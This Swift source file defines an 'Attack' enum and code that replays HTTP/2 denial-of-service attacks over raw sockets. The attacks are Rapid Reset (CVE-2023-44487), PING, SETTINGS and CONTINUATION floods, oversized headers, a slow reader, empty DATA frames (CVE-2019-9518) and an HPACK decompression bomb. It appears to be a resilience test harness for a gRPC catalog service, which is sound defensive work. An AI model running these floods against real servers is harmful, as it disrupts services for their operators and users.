/// One kind of abuse, played over and over on raw connections by an ``Attacker``.
enum Attack: String, CaseIterable, Sendable {
    /// HEADERS and the request of a GetItem call, then RST_STREAM CANCEL, 100 calls a burst
    /// (CVE-2023-44487).
    case rapidReset = "rapid-reset"
    /// PING frames, 100 a burst.
    case pingFlood = "ping-flood"
    /// Empty SETTINGS frames, 100 a burst.
    case settingsFlood = "settings-flood"
    /// HEADERS without END_HEADERS, then CONTINUATION frames, 100 a burst, never ending.
    case continuationFlood = "continuation-flood"
    /// GetItem calls each carrying a 64 KiB header value (answered trailers-only), 8 a burst.
    case oversizedHeaders = "oversized-headers"
    /// 100 Categories/List calls whose answers are never read (no WINDOW_UPDATE either), the
    /// connection held 2 s, then dropped.
    case slowReader = "slow-reader"
    /// Connect, send the preface and SETTINGS, close.
    case connectionChurn = "connection-churn"
    /// A GetItem call's HEADERS, then empty DATA frames on its stream, 1 000 a burst
    /// (CVE-2019-9518).
    case emptyFrames = "empty-frames"
    /// Health/Check calls whose 80 KiB header block puts a 4 000-byte field in the HPACK
    /// dynamic table, then refers to it with one-byte indexes to its end (~78 000 references,
    /// ~300 MB decoded), one call after another.
    case hpackBomb = "hpack-bomb"

    /// Frames (or calls) sent at once.
    static let burst = 100
    /// How long a slow reader holds each connection, in milliseconds.
    static let slowReaderHold: Int32 = 2_000

    /// Plays the attack on `socket` until the server closes it, it stalls, or `deadline`;
    /// returns how many calls it sent whole (header blocks that open a stream).
    func play(on socket: RawSocket, until deadline: ContinuousClock.Instant) -> Int {
        guard socket.send(Frames.connectionStart) else { return 0 }
        switch self {
        case .rapidReset:
            var stream: UInt32 = 1
            return Self.burst * repeatBursts(on: socket, until: deadline) {
                (0..<Self.burst).flatMap { _ in
                    defer { stream += 2 }
                    return Frames.call(stream: stream, block: Self.getItemBlock, json: #"{"id":1}"#)
                        + Frames.cancel(stream: stream)
                }
            }
        case .pingFlood:
            repeatBursts(on: socket, until: deadline) {
                Array((0..<Self.burst).map { _ in Frames.frame(Frames.ping, [UInt8](repeating: 7, count: 8)) }.joined())
            }
            return 0
        case .settingsFlood:
            repeatBursts(on: socket, until: deadline) {
                Array(repeatElement(Frames.frame(Frames.settings), count: Self.burst).joined())
            }
            return 0
        case .continuationFlood:
            guard socket.send(Frames.frame(Frames.headers, stream: 1, Self.getItemBlock)) else { return 0 }
            let fragment = Frames.frame(Frames.continuation, stream: 1, Frames.hpackLiteral([("x-pad", "0123456789")]))
            repeatBursts(on: socket, until: deadline) { Array(repeatElement(fragment, count: Self.burst).joined()) }
            return 0
        case .oversizedHeaders:
            var stream: UInt32 = 1
            let block = Frames.requestBlock(
                path: "/catalog.v1.Catalog/GetItem", extra: [("x-big", String(repeating: "b", count: 64 * 1024))])
            return 8 * repeatBursts(on: socket, until: deadline) {
                (0..<8).flatMap { _ in
                    defer { stream += 2 }
                    return Frames.call(stream: stream, block: block, json: #"{"id":1}"#)
                }
            }
        case .slowReader:
            let block = Frames.requestBlock(path: "/catalog.v1.Categories/List")
            let calls = (0..<UInt32(Self.burst)).flatMap { Frames.call(stream: 2 * $0 + 1, block: block, json: "{}") }
            guard socket.send(calls) else { return 0 }
            let hold = min(Self.slowReaderHold, Int32(ContinuousClock.now.duration(to: deadline) / .milliseconds(1)))
            socket.waitForHangUp(milliseconds: max(hold, 0))
            return Self.burst
        case .connectionChurn:
            return 0
        case .emptyFrames:
            guard socket.send(Frames.frame(Frames.headers, flags: Frames.endHeaders, stream: 1, Self.getItemBlock)) else { return 0 }
            let burst = Array(repeatElement(Frames.frame(Frames.data, stream: 1), count: 10 * Self.burst).joined())
            repeatBursts(on: socket, until: deadline) { burst }
            return 1
        case .hpackBomb:
            var stream: UInt32 = 1
            return repeatBursts(on: socket, until: deadline) {
                defer { stream += 2 }
                return Frames.call(stream: stream, block: Self.bombBlock, json: "{}")
            }
        }
    }

    /// A Health/Check call's header block, then a 4 000-byte field added to the HPACK dynamic
    /// table (literal with incremental indexing, RFC 7541 §6.2.1, index 62), then one-byte
    /// references to it (§6.1) up to 80 KiB: one HEADERS and four CONTINUATION frames.
    private static let bombBlock: [UInt8] = {
        let prefix = Frames.requestBlock(path: "/grpc.health.v1.Health/Check")
            + [0x40] + Frames.hpackString("x-bomb") + Frames.hpackString(String(repeating: "a", count: 4000))
        return prefix + [UInt8](repeating: 0x80 | 62, count: 5 * Frames.maxPayload - prefix.count)
    }()

    private static let getItemBlock = Frames.requestBlock(path: "/catalog.v1.Catalog/GetItem")

    /// Sends a burst, reads what came back (PING and SETTINGS acknowledgements, answers,
    /// GOAWAY), and again, while the connection stays open; returns the bursts sent whole.
    @discardableResult
    private func repeatBursts(on socket: RawSocket, until deadline: ContinuousClock.Instant, _ burst: () -> [UInt8]) -> Int {
        var sent = 0
        while ContinuousClock.now < deadline && socket.send(burst()) {
            sent += 1
            guard socket.drain() else { break }
        }
        return sent
    }
}
